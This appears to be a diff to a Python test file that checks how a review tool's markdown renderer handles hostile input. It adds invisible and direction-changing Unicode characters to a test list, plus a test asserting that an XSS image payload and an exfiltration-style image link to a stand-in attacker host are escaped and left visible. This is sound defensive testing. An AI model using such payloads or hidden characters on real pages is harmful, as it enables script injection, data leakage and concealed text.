@@ -11,7 +11,21 @@ from reviews.domain.hidden import hidden_names, pieces, spelled_out
 from reviews.templatetags.review_ui import has_markdown, markdown, percent, visible
 from routing.domain.differences import word_diff
 
-HIDDEN = ["\u200b", "\u200d", "\u202e", "\u2066", "\ufeff", "\u00ad", "\u3164", "\U000e0041", "\u2028", "\x07", "\r"]
+HIDDEN = [
+    "\u200b",
+    "\u200d",
+    "\u202e",
+    "\u2066",
+    "\ufeff",
+    "\u00ad",
+    "\u3164",
+    "\U000e0041",
+    "\u2028",
+    "\x07",
+    "\r",
+    "\ufe00",
+    "\U000e0100",
+]
 
 
 @pytest.mark.parametrize("char", HIDDEN, ids=ascii)
@@ -92,6 +106,11 @@ def test_markdown_loads_nothing_and_links_nowhere(hostile: str) -> None:
     tags = {part.split(">")[0].split()[0].strip("/") for part in drawn.split("<")[1:]}
     assert tags <= {"p", "code", "em"}
     assert "=" not in "".join(part.split(">")[0] for part in drawn.split("<")[1:])
+
+
+def test_markdown_keeps_what_it_does_not_draw_in_sight() -> None:
+    assert "&lt;img src=x onerror=alert(1)&gt;" in markdown("Hello <img src=x onerror=alert(1)>")
+    assert "https://evil.example/?secret" in markdown("![pixel](https://evil.example/?secret)")
 
 
 def test_markdown_draws_hidden_characters_by_their_number() -> None:
